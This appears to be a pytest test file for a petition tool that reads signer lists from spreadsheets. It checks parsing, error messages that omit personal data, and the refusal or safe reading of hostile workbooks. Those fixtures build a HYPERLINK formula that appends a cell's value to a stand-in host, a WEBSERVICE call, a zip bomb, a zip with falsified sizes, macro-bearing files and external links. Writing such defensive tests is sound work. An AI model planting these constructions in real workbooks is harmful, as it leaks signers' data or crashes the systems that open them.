""".xlsx, .xls and .ods signer lists: read directly, errors by sheet, row and cell, and
hostile workbooks (formulas, huge sheets, links, macros, zip bombs) refused or read safely."""

from __future__ import annotations

import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result
from workbooks import inline, raw_xlsx, sheet_xml, write_ods, write_xlsx

from advocate.errors import AdvocateError
from advocate.signers import SignerReader, read_signers

FIXTURES = Path(__file__).parent.parent / "fixtures" / "signers"

FORM = [
    ["Timestamp", "Email Address", "Full Name", "City", "Display my name"],
    ["2026-03-01 09:14", "leila.haddad@example.org", "Leila Haddad", "Beirut", "Yes"],
    ["2026-03-01 09:20", "jonas.berg@example.se", "Jonas Berg", "Malmö", "No"],
    ["2026-03-02 18:03", "ayse.demir@example.org", "Ayşe Demir", "Ankara", "yes"],
]
MAPPING = {"public": "Display my name"}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def error_of(path: Path, **options: object) -> str:
    with pytest.raises(AdvocateError) as info:
        read_signers(path, **options)  # type: ignore[arg-type]
    return str(info.value)


def test_xlsx_from_a_web_form(here: Path) -> None:
    path = write_xlsx(Path("responses.xlsx"), {"Form Responses 1": FORM})
    reader = SignerReader(path, columns=MAPPING)
    signers = list(reader)
    assert [(s.name, s.email, s.city, s.public) for s in signers] == [
        ("Leila Haddad", "leila.haddad@example.org", "Beirut", True),
        ("Jonas Berg", "jonas.berg@example.se", "Malmö", False),
        ("Ayşe Demir", "ayse.demir@example.org", "Ankara", True),
    ]
    assert [(s.row, s.line) for s in signers] == [(1, 2), (2, 3), (3, 4)]
    assert reader.stats.sheet == "Form Responses 1"
    assert reader.stats.layout == "Google Forms responses with a column mapping"


def test_ods_and_xls(here: Path) -> None:
    path = write_ods(Path("signers.ods"), "Unterschriften", FORM[:3],
                     tail='<table:table-row table:number-rows-repeated="1048570">'
                          '<table:table-cell table:number-columns-repeated="1024"/>'
                          "</table:table-row>")
    signers = read_signers(path, columns=MAPPING)
    assert [(s.name, s.public) for s in signers] == [("Leila Haddad", True), ("Jonas Berg", False)]
    shutil.copyfile(FIXTURES / "form.xls", "form.xls")
    reader = SignerReader(Path("form.xls"), columns={"public": "Display my name",
                                                     "city": "Town"})
    assert [(s.name, s.email, s.city, s.public) for s in reader] == [
        ("Chidi Eze", "chidi.eze@example.org", "Enugu", True),
        ("Marta Nowak", "marta.nowak@example.pl", "Gdańsk", False),
        ("Ömer Yılmaz", "omer.yilmaz@example.org", "İzmir", True),
    ]
    assert reader.stats.sheet == "Responses"


def test_sheet_name_and_missing_sheet(here: Path) -> None:
    path = write_xlsx(Path("book.xlsx"), {"Notes": [["nothing", "here"]],
                                          "Signers": [["name", "email"], ["Ana Lima", ""]]})
    assert error_of(path) == (
        "book.xlsx:1: the first row names no known column (the first row must name the "
        "columns, for example name,email,city,country,note,public,address,lang; or map yours: "
        "--columns "
        'name="Full Name",email="Email Address",public="Display my name")'
    )
    assert [s.name for s in read_signers(path, sheet="Signers")] == ["Ana Lima"]
    assert error_of(path, sheet="Signatures") == (
        "book.xlsx: no sheet 'Signatures' in the workbook (its sheets: 'Notes', 'Signers')"
    )


def test_errors_name_sheet_row_and_cell_and_no_personal_data(here: Path) -> None:
    rows = [
        ["Full Name", "Email Address", "Display my name"],
        ["Leila Haddad", "leila.haddad(at)example.org", "Yes"],
        ["Jonas Berg", "jonas.berg@example.se", "perhaps"],
        ["Ayşe Demir", "JONAS.BERG@example.se", "no"],
    ]
    path = write_xlsx(Path("signers.xlsx"), {"Form Responses 1": rows})
    message = error_of(path, columns=MAPPING)
    assert message == (
        "signers.xlsx:2:2: row 1, cell 'Form Responses 1'!B2: invalid email (no @)\n"
        "signers.xlsx:3:3: row 2, cell 'Form Responses 1'!C3: invalid value for 'public' "
        "(use yes or no (or the same in the list's language: sí, oui, ja, да, نعم...); "
        "empty means no: the signer is counted, not named)\n"
        "signers.xlsx:4: rows 2 and 3 have the same email (remove one, or pass --dedupe first)"
    )
    for row in rows[1:]:
        for cell in row[:2]:
            assert cell.casefold() not in message.casefold()


def test_data_away_from_the_corner_keeps_real_cell_names(here: Path) -> None:
    cells = ('<row r="3">' + inline("C3", "name") + inline("D3", "email") + "</row>"
             '<row r="4">' + inline("C4", "Ana Lima") + inline("D4", "ana.lima@") + "</row>")
    path = raw_xlsx(Path("offset.xlsx"), sheet_xml(cells))
    assert error_of(path) == (
        "offset.xlsx:4:4: row 1, cell Sheet1!D4: invalid email (nothing after the @)"
    )


def test_consent_in_the_campaigns_languages(here: Path) -> None:
    rows = [["name", "public"], ["Jörg Brandt", "ja"], ["Éloïse Martin", "Oui"],
            ["Ана Петрова", "нет"], ["Ana Souza", "s"]]
    path = write_xlsx(Path("signers.xlsx"), {"Sheet": rows})
    # Every language's whole words are read; a lone letter only in the languages asked for.
    assert "row 4, cell Sheet!B5: invalid value for 'public'" in error_of(path)
    signers = read_signers(path, languages=["de", "fr-CA", "ru", "pt"])
    assert [s.public for s in signers] == [True, True, False, True]


# --------------------------------------------------------------------------- hostile


def test_formulas_are_never_evaluated(here: Path) -> None:
    # A formula cell gives the value saved with the file; one without a saved value is empty.
    cells = (
        '<row r="1">' + inline("A1", "name") + inline("B1", "email") + "</row>"
        '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://x.invalid/?"&amp;B2,"click")</f>'
        "<v>Ana Lima</v></c>" + '<c r="B2"><f>WEBSERVICE("http://x.invalid/")</f></c></row>'
        '<row r="3">' + inline("A3", '=HYPERLINK("http://x.invalid/","click")')
        + inline("B3", "leila@example.org") + "</row>"
    )
    path = raw_xlsx(Path("formulas.xlsx"), sheet_xml(cells))
    saved, literal = read_signers(path)
    assert (saved.name, saved.email) == ("Ana Lima", None)
    assert literal.name == '=HYPERLINK("http://x.invalid/","click")'  # text, kept literally
    # openpyxl writes formulas without a saved value: the cell reads as empty.
    path = write_xlsx(Path("openpyxl.xlsx"), {"S": [["name", "email"], ["=1+1", "a@b.org"]]})
    assert error_of(path) == (
        "openpyxl.xlsx:2:1: row 1, cell S!A2: empty name "
        "(every signer needs a name; delete the row if it is not a signer)"
    )


def test_a_huge_sheet_from_a_tiny_file_is_refused(here: Path) -> None:
    # 1.5 KB on disk; read naively, the reader allocates 4 GiB and the process aborts.
    cells = ('<row r="1">' + inline("A1", "name") + "</row>"
             '<row r="200000">' + inline("ZZ200000", "x") + "</row>")
    path = raw_xlsx(Path("huge.xlsx"), sheet_xml(cells))
    assert path.stat().st_size < 2000
    assert error_of(path).startswith("huge.xlsx: the sheet is too large to read safely")


def test_zip_bomb_is_refused_before_any_reader_sees_it(here: Path) -> None:
    cells = '<row r="1">' + inline("A1", "name") + "</row>"
    path = raw_xlsx(Path("bomb.xlsx"), sheet_xml(cells, " " * (8 * 1024 * 1024)))
    assert path.stat().st_size < 20_000
    assert error_of(path, max_bytes=1024 * 1024) == (
        "bomb.xlsx: the workbook unpacks to more than 2,097,152 bytes (save the sheet as CSV "
        "UTF-8 (CSV is read as a stream), or raise the limit with --max-signers-size)"
    )


def test_a_zip_that_lies_about_its_sizes_is_refused(here: Path) -> None:
    cells = '<row r="1">' + inline("A1", "name") + "</row>"
    path = raw_xlsx(Path("liar.xlsx"), sheet_xml(cells, " " * 100_000))
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    real = info.file_size.to_bytes(4, "little")
    # Declare 100 bytes where the part really inflates to over 100,000, in both headers.
    data[:] = data.replace(real, (100).to_bytes(4, "little"))
    path.write_bytes(bytes(data))
    assert error_of(path) == (
        "liar.xlsx: not a readable workbook (the file is damaged) "
        "(save it again from your spreadsheet, or as CSV UTF-8)"
    )


def test_macros_are_refused(here: Path) -> None:
    cells = '<row r="1">' + inline("A1", "name") + "</row><row r=\"2\">" + inline("A2", "A") \
        + "</row>"
    shutil.copyfile(raw_xlsx(Path("book.xlsx"), sheet_xml(cells)), "book.xlsm")
    assert error_of(Path("book.xlsm")).startswith("book.xlsm: a macro-enabled workbook (.xlsm)")
    # The same macros in a file renamed to .xlsx.
    path = raw_xlsx(Path("renamed.xlsx"), sheet_xml(cells), {"xl/vbaProject.bin": b"\0" * 64})
    assert error_of(path).startswith("renamed.xlsx: the workbook contains macros (")


def test_external_links_are_not_followed(here: Path) -> None:
    cells = ('<row r="1">' + inline("A1", "name") + "</row>"
             '<row r="2"><c r="A2" t="str"><f>[1]Sheet1!A1</f><v>Saved Name</v></c></row>')
    link = ('<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r='
            '"http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
            "</externalLink>")
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http'
            '://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            'Target="http://x.invalid/book.xlsx" TargetMode="External"/></Relationships>')
    path = raw_xlsx(Path("linked.xlsx"), sheet_xml(cells), {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
    })
    reader = SignerReader(path)
    assert [s.name for s in reader] == ["Saved Name"]
    assert [p.message for p in reader.stats.notices] == [
        "the workbook links to other workbooks; the links are not followed, and cells that "
        "use them show the values saved in this file"
    ]


def test_not_a_workbook(here: Path) -> None:
    Path("signers.xlsx").write_text("name\nAna\n", encoding="utf-8")
    assert error_of(Path("signers.xlsx")).startswith("signers.xlsx: not a .xlsx workbook (")


def test_letters_from_an_xlsx_with_one_columns_flag(
    run: Callable[..., Result], here: Path
) -> None:
    write_xlsx(Path("responses.xlsx"), {"Form Responses 1": FORM})
    result = run("letter", "kazakhstan-2022", "--to", "president", "--signers",
                 "responses.xlsx", "--columns", 'public="Display my name"')
    assert result.exit_code == 0, result.stderr
    for name in ("Leila Haddad", "Jonas Berg", "Ayşe Demir"):  # sender block and signature
        assert result.stdout.count(f"{name}\n") == 2
    assert result.stdout.count("Ref. ") == 3  # three letters (their closings are variants)
    assert "ignored 1 column: 'Timestamp'" in result.stderr
